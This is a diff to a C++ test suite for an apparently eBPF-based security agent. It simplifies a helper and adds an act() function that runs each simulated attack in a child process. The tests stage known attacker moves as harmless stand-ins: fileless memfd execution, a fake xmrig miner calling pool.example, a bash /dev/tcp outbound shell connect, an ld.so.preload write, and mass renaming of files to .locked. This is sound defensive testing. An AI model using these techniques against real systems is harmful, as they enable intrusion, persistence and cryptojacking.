@@ -45,6 +45,10 @@ bool killed(int status) {
   return WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL;
 }
 
+bool exited_with(int status, int code) {
+  return WIFEXITED(status) && WEXITSTATUS(status) == code;
+}
+
 // One agent for the whole suite: the pack plus the overlay, deny programs on C.
 class PackEnforcement : public ::testing::Test {
  protected:
@@ -126,38 +130,43 @@ class PackEnforcement : public ::testing::Test {
     return path;
   }
 
+  // What a child did: its wait status, and the alerts of a rule about it.
+  struct Outcome {
+    int status = 0;
+    std::vector<json> alerts;
+  };
+
+  // Runs `body` in a child, in C when `inside`, and collects `rule`'s alerts
+  // about it (waiting for one only inside C, where the rule acts). The child
+  // sends its pid before `body` runs, so its alerts can be found after it is
+  // dead.
+  static Outcome act(bool inside, const std::string& rule, const std::function<int()>& body) {
+    int fds[2];
+    if (pipe(fds) != 0) return {-1, {}};
+    Outcome outcome;
+    outcome.status = run_child(inside, [&] {
+      pid_t self = getpid();
+      ssize_t ignored = write(fds[1], &self, sizeof self);
+      (void)ignored;
+      return body();
+    });
+    pid_t pid = -1;
+    if (read(fds[0], &pid, sizeof pid) != sizeof pid) pid = -1;
+    close(fds[0]);
+    close(fds[1]);
+    outcome.alerts =
+        alerts_of(rule, pid, inside ? std::chrono::seconds(10) : std::chrono::seconds(0));
+    return outcome;
+  }
+
   static inline fs::path cgroup_;
   static inline fs::path work_;
   static inline uint64_t cgroup_id_ = 0;
   static inline std::unique_ptr<testing::AgentProcess> agent_;
 };
 
-// The child reports its pid through a pipe before it acts, so the test can
-// find its alert after it is dead.
-struct ChildPid {
-  ChildPid() {
-    if (pipe(fds) != 0) fds[0] = fds[1] = -1;
-  }
-  ~ChildPid() {
-    close(fds[0]);
-    close(fds[1]);
-  }
-  void send() const {
-    pid_t pid = getpid();
-    ssize_t ignored = write(fds[1], &pid, sizeof pid);
-    (void)ignored;
-  }
-  pid_t receive() const {
-    pid_t pid = -1;
-    if (read(fds[0], &pid, sizeof pid) != sizeof pid) return -1;
-    return pid;
-  }
-  int fds[2];
-};
-
 TEST_F(PackEnforcement, FilelessExecFromMemfdIsKilled) {
-  auto exec_memfd = [](const ChildPid& pid) {
-    pid.send();
+  auto exec_memfd = [] {
     int memfd = static_cast<int>(memfd_create("payload", MFD_CLOEXEC));
     int binary = open("/usr/bin/true", O_RDONLY | O_CLOEXEC);
     if (memfd < 0 || binary < 0) return 2;
@@ -168,83 +177,65 @@ TEST_F(PackEnforcement, FilelessExecFromMemfdIsKilled) {
     fexecve(memfd, argv, environ);
     return 4;
   };
-  ChildPid inside_pid;
-  int status = run_child(true, [&] { return exec_memfd(inside_pid); });
-  EXPECT_TRUE(killed(status)) << "wait status " << status;
-  std::vector<json> alerts = alerts_of(kMemfdExecRule, inside_pid.receive());
-  ASSERT_EQ(alerts.size(), 1u) << agent_->log();
-  EXPECT_EQ(alerts[0]["action"], "killed");
-
-  ChildPid outside_pid;
-  status = run_child(false, [&] { return exec_memfd(outside_pid); });
-  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << "wait status " << status;
+  Outcome inside = act(true, kMemfdExecRule, exec_memfd);
+  EXPECT_TRUE(killed(inside.status)) << "wait status " << inside.status;
+  ASSERT_EQ(inside.alerts.size(), 1u) << agent_->log();
+  EXPECT_EQ(inside.alerts[0]["action"], "killed");
+  Outcome outside = act(false, kMemfdExecRule, exec_memfd);
+  EXPECT_TRUE(exited_with(outside.status, 0)) << "wait status " << outside.status;
 }
 
 TEST_F(PackEnforcement, CryptoMinerIsKilledBeforeItRuns) {
   fs::path miner = copy_of_true("xmrig");
-  auto exec_miner = [&](const ChildPid& pid) {
-    pid.send();
+  auto exec_miner = [&] {
     execl(miner.c_str(), "xmrig", "-o", "stratum+tcp://pool.example:3333", nullptr);
     return 127;
   };
-  ChildPid inside_pid;
-  int status = run_child(true, [&] { return exec_miner(inside_pid); });
-  EXPECT_TRUE(killed(status)) << "wait status " << status;
-  std::vector<json> alerts = alerts_of(kMinerRule, inside_pid.receive());
-  ASSERT_EQ(alerts.size(), 1u) << agent_->log();
-  EXPECT_EQ(alerts[0]["action"], "killed");
-
-  ChildPid outside_pid;
-  status = run_child(false, [&] { return exec_miner(outside_pid); });
-  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << "wait status " << status;
+  Outcome inside = act(true, kMinerRule, exec_miner);
+  EXPECT_TRUE(killed(inside.status)) << "wait status " << inside.status;
+  ASSERT_EQ(inside.alerts.size(), 1u) << agent_->log();
+  EXPECT_EQ(inside.alerts[0]["action"], "killed");
+  Outcome outside = act(false, kMinerRule, exec_miner);
+  EXPECT_TRUE(exited_with(outside.status, 0)) << "wait status " << outside.status;
 }
 
 TEST_F(PackEnforcement, ShellConnectingOutIsKilledAtConnect) {
   // bash's /dev/tcp: the shell itself connects, as in `bash -i >& /dev/tcp/…`.
   // 192.0.2.1 (TEST-NET-1) never answers; a killed shell never writes.
   fs::path marker = work_ / "shell-went-on";
-  auto shell_connect = [&](const ChildPid& pid) {
-    pid.send();
+  Outcome inside = act(true, kShellConnectRule, [&] {
     std::string script = "exec 3<>/dev/tcp/192.0.2.1/80; echo > " + marker.string();
     execl("/bin/bash", "bash", "-c", script.c_str(), nullptr);
     return 127;
-  };
-  ChildPid inside_pid;
-  int status = run_child(true, [&] { return shell_connect(inside_pid); });
-  EXPECT_TRUE(killed(status)) << "wait status " << status;
+  });
+  EXPECT_TRUE(killed(inside.status)) << "wait status " << inside.status;
   EXPECT_FALSE(fs::exists(marker));
-  std::vector<json> alerts = alerts_of(kShellConnectRule, inside_pid.receive());
-  ASSERT_EQ(alerts.size(), 1u) << agent_->log();
-  EXPECT_EQ(alerts[0]["action"], "killed");
+  ASSERT_EQ(inside.alerts.size(), 1u) << agent_->log();
+  EXPECT_EQ(inside.alerts[0]["action"], "killed");
 }
 
 TEST_F(PackEnforcement, LdSoPreloadWriteIsDeniedOrKilled) {
   // O_WRONLY without O_CREAT or O_TRUNC: even if nothing stopped the open, it
   // would change nothing (and fails with ENOENT where the file is absent).
-  auto open_preload = [](const ChildPid& pid) {
-    pid.send();
+  Outcome inside = act(true, kPreloadRule, [] {
     int fd = open("/etc/ld.so.preload", O_WRONLY | O_CLOEXEC);
     if (fd >= 0) close(fd);
     return fd >= 0 ? 0 : (errno == EPERM ? 10 : 11);
-  };
-  ChildPid inside_pid;
-  int status = run_child(true, [&] { return open_preload(inside_pid); });
-  std::vector<json> alerts = alerts_of(kPreloadRule, inside_pid.receive());
-  ASSERT_EQ(alerts.size(), 1u) << agent_->log();
+  });
+  ASSERT_EQ(inside.alerts.size(), 1u) << agent_->log();
   // With BPF LSM the open fails with EPERM; without it `fallback kill` kills.
-  if (alerts[0]["action"] == "denied") {
-    EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 10) << "wait status " << status;
+  if (inside.alerts[0]["action"] == "denied") {
+    EXPECT_TRUE(exited_with(inside.status, 10)) << "wait status " << inside.status;
   } else {
-    EXPECT_EQ(alerts[0]["action"], "killed");
-    EXPECT_TRUE(killed(status)) << "wait status " << status;
+    EXPECT_EQ(inside.alerts[0]["action"], "killed");
+    EXPECT_TRUE(killed(inside.status)) << "wait status " << inside.status;
   }
 }
 
 TEST_F(PackEnforcement, MiningPoolPortConnectIsRefused) {
   // 192.0.2.1 (TEST-NET-1) never answers: a non-blocking connect that is not
   // refused is left in progress.
-  auto connect_pool_port = [](const ChildPid& pid) {
-    pid.send();
+  auto connect_pool_port = [] {
     int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
     sockaddr_in address{};
     address.sin_family = AF_INET;
@@ -255,16 +246,12 @@ TEST_F(PackEnforcement, MiningPoolPortConnectIsRefused) {
     close(fd);
     return error == EPERM ? 10 : error == EINPROGRESS ? 11 : 12;
   };
-  ChildPid inside_pid;
-  int status = run_child(true, [&] { return connect_pool_port(inside_pid); });
-  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 10) << "wait status " << status;
-  std::vector<json> alerts = alerts_of(kMiningPortRule, inside_pid.receive());
-  ASSERT_EQ(alerts.size(), 1u) << agent_->log();
-  EXPECT_EQ(alerts[0]["action"], "denied");
-
-  ChildPid outside_pid;
-  status = run_child(false, [&] { return connect_pool_port(outside_pid); });
-  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 11) << "wait status " << status;
+  Outcome inside = act(true, kMiningPortRule, connect_pool_port);
+  EXPECT_TRUE(exited_with(inside.status, 10)) << "wait status " << inside.status;
+  ASSERT_EQ(inside.alerts.size(), 1u) << agent_->log();
+  EXPECT_EQ(inside.alerts[0]["action"], "denied");
+  Outcome outside = act(false, kMiningPortRule, connect_pool_port);
+  EXPECT_TRUE(exited_with(outside.status, 11)) << "wait status " << outside.status;
 }
 
 TEST_F(PackEnforcement, MassRenameIsKilledAtTheThreshold) {
@@ -272,20 +259,16 @@ TEST_F(PackEnforcement, MassRenameIsKilledAtTheThreshold) {
   fs::create_directories(files);
   constexpr int kFiles = 200;
   for (int i = 0; i < kFiles; ++i) std::ofstream(files / std::to_string(i)) << "data";
-  auto rename_all = [&](const ChildPid& pid) {
-    pid.send();
+  Outcome inside = act(true, kMassRenameRule, [&] {
     for (int i = 0; i < kFiles; ++i) {
       std::string from = (files / std::to_string(i)).string();
       if (rename(from.c_str(), (from + ".locked").c_str()) != 0) return 2;
     }
     return 0;
-  };
-  ChildPid inside_pid;
-  int status = run_child(true, [&] { return rename_all(inside_pid); });
-  EXPECT_TRUE(killed(status)) << "wait status " << status;
-  std::vector<json> alerts = alerts_of(kMassRenameRule, inside_pid.receive());
-  ASSERT_EQ(alerts.size(), 1u) << agent_->log();
-  EXPECT_EQ(alerts[0]["action"], "killed");
+  });
+  EXPECT_TRUE(killed(inside.status)) << "wait status " << inside.status;
+  ASSERT_EQ(inside.alerts.size(), 1u) << agent_->log();
+  EXPECT_EQ(inside.alerts[0]["action"], "killed");
   // Killed at the 30th rename (sys_enter: that rename still completes).
   size_t renamed = 0;
   for (const auto& entry : fs::directory_iterator(files))
